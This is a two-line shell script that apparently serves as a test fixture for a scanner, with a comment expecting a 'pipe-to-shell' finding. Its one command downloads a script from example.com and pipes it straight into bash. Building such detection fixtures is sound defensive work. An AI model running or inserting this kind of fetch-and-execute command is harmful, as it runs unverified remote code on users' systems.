#!/bin/sh
curl -fsSL https://example.com/a.sh | bash # expect: pipe-to-shell
